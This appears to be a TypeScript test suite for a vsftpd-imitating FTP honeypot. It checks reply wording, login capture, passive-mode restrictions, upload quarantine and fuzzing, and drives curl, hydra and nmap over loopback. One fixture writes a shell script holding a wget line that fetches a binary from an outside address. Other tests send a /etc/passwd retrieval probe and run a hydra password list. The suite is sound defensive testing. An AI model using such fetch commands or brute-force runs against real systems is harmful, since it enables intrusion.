/**
 * The FTP honeypot (vsftpd-like): exact replies and codes, login capture, passive data connections bound to the
 * control connection's client, no active mode, uploads into quarantine; then real clients (curl, hydra, nmap -sV)
 * on loopback, and a fuzz of the line reader. Tools missing fail under CI=true.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import type { AnyEvent } from '../../../src/core/events.js';
import { listLine } from '../../../src/honeynet/services/ftp/ftp-fs.js';
import { FtpLineReader, parseCommand, parseEprt, parsePort, pasvTuple } from '../../../src/honeynet/services/ftp/ftp-protocol.js';
import { vsftpdVersion } from '../../../src/honeynet/services/ftp/ftp-release.js';
import { FTP_DEFAULTS, ftpService } from '../../../src/honeynet/services/ftp/ftp-service.js';
import { TEST_PERSONA } from '../persona-fixture.js';
import { which } from '../ssh-profile/nmap-enum-algos.js';
import { blast, hostileChunks, LIMITS, nmapServiceLine, RawClient, run, SESSION, toolsOrSkip, waitUntil } from './ftp-smtp-vnc-helpers.js';
import { startTestService, type TestService } from './service-harness.js';

const GOOD = { username: 'admin', password: 'hunter2' };
const toolSkip = toolsOrSkip({ curl: which('curl'), hydra: which('hydra'), nmap: which('nmap') }, 'curl hydra nmap');

let svc: TestService;
let port: number;
before(async () => {
  svc = await startTestService(ftpService(), {
    persona: TEST_PERSONA,
    settings: { failDelayMs: 0, maxAttempts: 3, auth: { mode: 'credentials', credentials: [GOOD] }, dataTimeoutSec: 5 },
    limits: LIMITS, session: SESSION, maxFileBytes: 1 << 20, maxTotalBytes: 1 << 24,
  });
  port = svc.listener.address.port;
});
after(async () => {
  await svc?.close();
});

const of = <T extends AnyEvent['type']>(type: T) => svc.events.filter((e): e is Extract<AnyEvent, { type: T }> => e.type === type);

describe('ftp protocol pieces', () => {
  it('parses commands, PORT and EPRT; formats PASV and LIST lines as vsftpd', () => {
    assert.deepEqual(parseCommand('user anonymous'), { verb: 'USER', arg: 'anonymous' });
    assert.deepEqual(parseCommand('PASS a b '), { verb: 'PASS', arg: 'a b ' });
    assert.deepEqual(parsePort('127,0,0,1,4,1'), { host: '127.0.0.1', port: 1025 });
    assert.equal(parsePort('127,0,0,1,4'), null);
    assert.equal(parsePort('300,0,0,1,4,1'), null);
    assert.deepEqual(parseEprt('|1|10.0.0.1|6000|'), { host: '10.0.0.1', port: 6000 });
    assert.equal(parseEprt('|3|x|1|'), null);
    assert.equal(pasvTuple('127.0.0.1', 40001), '127,0,0,1,156,65');
    const line = listLine({ name: 'pub', dir: true, mode: 'drwxr-xr-x', uid: 0, gid: 0, size: 4096, mtime: Date.UTC(2025, 0, 5, 12, 0) }, Date.UTC(2025, 1, 1));
    assert.equal(line, 'drwxr-xr-x    2 0        0            4096 Jan 05 12:00 pub');
    assert.equal(vsftpdVersion(TEST_PERSONA), '3.0.3');
    assert.equal(vsftpdVersion({ ...TEST_PERSONA, os: { ...TEST_PERSONA.os, id: 'ubuntu', versionId: '24.04' } }), '3.0.5');
  });

  it('the line reader splits CRLF/LF lines and caps a long line', () => {
    const r = new FtpLineReader(8);
    assert.deepEqual(r.feed(Buffer.from('USER a\r\nPA')), ['USER a']);
    assert.deepEqual(r.feed(Buffer.from('SS b\nXXXXXXXXXXXXXXXXXXXX')), ['PASS b']);
    assert.ok(r.buffered <= 8);
    assert.deepEqual(r.feed(Buffer.from('YY\nNOOP\n')), ['XXXXXXXX', 'NOOP']);
  });

  it('fuzz: random bytes never throw and the reader holds at most its limit', () => {
    fc.assert(
      fc.property(fc.array(fc.uint8Array({ maxLength: 600 }), { maxLength: 20 }), (chunks) => {
        const r = new FtpLineReader(256);
        for (const c of chunks) {
          for (const l of r.feed(Buffer.from(c))) {
            assert.ok(Buffer.byteLength(l) <= 256 * 3);
            parseCommand(l);
            parsePort(l);
            parseEprt(l);
          }
          assert.ok(r.buffered <= 256);
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe('ftp conversation', () => {
  it('banner, login failure and success with vsftpd wording; every command recorded', async () => {
    const c = new RawClient(port);
    await c.waitFor('220 (vsFTPd 3.0.3)\r\n');
    c.send('SYST\r\n');
    await c.waitFor('530 Please login with USER and PASS.\r\n');
    c.send('PASS x\r\n');
    await c.waitFor('503 Login with USER first.\r\n');
    c.send('USER root\r\n');
    await c.waitFor('331 Please specify the password.\r\n');
    c.send('PASS toor\r\n');
    await c.waitFor('530 Login incorrect.\r\n');
    c.send('USER admin\r\nPASS hunter2\r\n');
    await c.waitFor('230 Login successful.\r\n');
    c.send('SYST\r\nPWD\r\nCWD /nonexistent\r\nCWD /tmp\r\nTYPE I\r\nRETR /etc/passwd\r\nFOO\r\nFEAT\r\nPORT 8,8,8,8,0,21\r\nEPRT |1|8.8.8.8|21|\r\nQUIT\r\n');
    await c.waitFor('221 Goodbye.\r\n');
    await c.waitClosed();
    for (const line of ['215 UNIX Type: L8', '257 "/home/admin" is the current directory', '550 Failed to change directory.', '250 Directory successfully changed.', '200 Switching to Binary mode.', '550 Failed to open file.', '500 Unknown command.', '211-Features:\r\n EPRT\r\n EPSV\r\n MDTM\r\n PASV\r\n REST STREAM\r\n SIZE\r\n TVFS\r\n211 End', '500 Illegal PORT command.', '500 Illegal EPRT command.']) {
      assert.ok(c.text.includes(`${line}\r\n`), `${line} in ${c.text}`);
    }
    const auths = of('honeypot.auth').filter((e) => e.data.username === 'root' || e.data.username === 'admin');
    assert.deepEqual(auths.map((e) => [e.data.username, e.data.password, e.data.success, e.data.method]), [['root', 'toor', false, 'password'], ['admin', 'hunter2', true, 'password']]);
    const cmds = of('honeypot.command').map((e) => e.data.input);
    for (const c2 of ['SYST', 'USER root', 'PASS toor', 'FOO', 'PORT 8,8,8,8,0,21', 'QUIT']) assert.ok(cmds.includes(c2), c2);
    assert.equal(of('honeypot.command').find((e) => e.data.input === 'FOO')?.data.known, false);
  });

  it('three failures close the connection', async () => {
    const c = new RawClient(port);
    await c.waitFor('220 ');
    c.send('USER a\r\nPASS 1\r\nUSER a\r\nPASS 2\r\nUSER a\r\nPASS 3\r\n');
    await c.waitClosed();
    assert.equal(c.text.split('530 Login incorrect.').length - 1, 3);
  });

  it('anonymous: PASV listing of the anon root, a data listener only for the client, closed after use', async () => {
    const c = new RawClient(port);
    await c.waitFor('220 ');
    c.send('USER anonymous\r\nPASS a@b\r\nLIST\r\nPASV\r\n');
    const m = /227 Entering Passive Mode \(127,0,0,1,(\d+),(\d+)\)\.\r\n/.exec(await c.waitFor(/227 .*\r\n/));
    assert.ok(c.text.includes('425 Use PORT or PASV first.\r\n'));
    const dport = Number(m![1]) * 256 + Number(m![2]);
    // Another address may not take the data connection (no pasv_promiscuous): it is dropped, the listener stays.
    await new Promise<void>((resolve) => {
      const x = connect({ port: dport, host: '127.0.0.1', localAddress: '127.0.0.2' });
      x.on('error', () => resolve());
      x.on('close', () => resolve());
    });
    const listing = await new Promise<string>((resolve) => {
      const d = connect(dport, '127.0.0.1');
      let got = '';
      d.on('data', (b) => (got += b.toString()));
      d.on('close', () => resolve(got));
      d.on('connect', () => c.send('LIST\r\n'));
    });
    assert.match(listing, /^drwxr-xr-x {4}2 0 {8}0 {12}4096 \w{3} \d\d ( \d{4}|\d\d:\d\d) pub\r\n$/);
    await c.waitFor('226 Directory send OK.\r\n');
    assert.ok(c.text.includes('150 Here comes the directory listing.\r\n'));
    // The listener is gone once used.
    await assert.rejects(new Promise((resolve, reject) => connect(dport, '127.0.0.1').on('connect', resolve).on('error', reject)));
    // EPSV, then a timeout: the listener closes and the transfer fails.
    c.send('EPSV\r\n');
    await c.waitFor(/229 Entering Extended Passive Mode \(\|\|\|\d+\|\)\r\n/);
    c.send('QUIT\r\n');
    await c.waitClosed();
  });

  it('STOR without a data connection fails; active mode is accepted in words only and never connects', async () => {
    const c = new RawClient(port);
    await c.waitFor('220 ');
    c.send('USER ftp\r\nPASS x\r\nSTOR a.sh\r\nPORT 127,0,0,1,200,1\r\nSTOR a.sh\r\n');
    await c.waitFor('425 Failed to establish connection.\r\n');
    assert.ok(c.text.includes('425 Use PORT or PASV first.\r\n'));
    assert.ok(c.text.includes('200 PORT command successful. Consider using PASV.\r\n'));
    c.close();
  });

  it('fuzz at the port: random bytes and abrupt closes never crash it, every session ends, it still answers', { timeout: 120_000 }, async () => {
    await fc.assert(fc.asyncProperty(hostileChunks(fc, ['USER anonymous\r\nPASS x\r\n', 'USER a\r\n', 'USER ftp\r\nPASS a\r\nPASV\r\nSTOR x\r\n']), async (chunks) => blast(port, chunks)), { numRuns: 60 });
    await waitUntil('sessions closed', () => svc.listener.sessions() === 0 || undefined, 10_000);
    const c = new RawClient(port);
    await c.waitFor('220 (vsFTPd 3.0.3)\r\n');
    c.close();
  });
});

describe('ftp with real clients', { skip: toolSkip }, () => {
  it('curl with a wrong password gets 530 (exit 67) and the attempt is recorded', async () => {
    const r = await run('curl', ['-s', '-S', '--max-time', '20', `ftp://bob:s3cr%3At@127.0.0.1:${port}/`]);
    assert.equal(r.code, 67, r.out);
    assert.ok(of('honeypot.auth').some((e) => e.data.username === 'bob' && e.data.password === 's3cr:t' && !e.data.success));
  });

  it('curl lists the anonymous root and uploads a file that lands in quarantine', async () => {
    const l = await run('curl', ['-s', '-S', '--max-time', '20', `ftp://127.0.0.1:${port}/`]);
    assert.equal(l.code, 0, l.out);
    assert.match(l.stdout, /pub\r?\n$/);
    const file = join(svc.dir, 'payload.sh');
    const body = `#!/bin/sh\nwget http://203.0.113.9/x.bin\n${'A'.repeat(70_000)}\n`;
    writeFileSync(file, body);
    const u = await run('curl', ['-s', '-S', '--max-time', '20', '-T', file, `ftp://127.0.0.1:${port}/pub/`]);
    assert.equal(u.code, 0, u.out);
    const sha = createHash('sha256').update(body).digest('hex');
    const up = await waitUntil('upload event', () => of('honeypot.upload').find((e) => e.data.sha256 === sha));
    assert.equal(up.data.via, 'ftp');
    assert.equal(up.data.filename, '/pub/payload.sh');
    assert.equal(up.data.size, body.length);
    assert.equal(readFileSync(up.data.quarantine!, 'utf8'), body);
  });

  it('hydra ftp: every attempt recorded with the exact credentials', async () => {
    const pw = ['123456', 'pa ss', 'x"y$z', 'hunter2', 'qwerty'];
    writeFileSync(join(svc.dir, 'ftp-pw.txt'), `${pw.join('\n')}\n`);
    const r = await run('hydra', ['-l', 'admin', '-P', join(svc.dir, 'ftp-pw.txt'), '-t', '2', '-s', String(port), '127.0.0.1', 'ftp']);
    assert.match(r.out, /login:\s+admin\s+password:\s+hunter2/, r.out);
    await new Promise((res) => setTimeout(res, 200));
    const seen = new Set(of('honeypot.auth').filter((e) => e.data.username === 'admin').map((e) => e.data.password));
    for (const p of pw.slice(0, 4)) assert.ok(seen.has(p), `${p} recorded; saw ${[...seen].join(',')}`);
  });

  it('nmap -sV names vsftpd', { timeout: 200_000 }, async () => {
    const line = await nmapServiceLine(port);
    assert.match(line, /open\s+ftp\s+vsftpd 3\.0\.3/, line);
  });
});

void FTP_DEFAULTS;
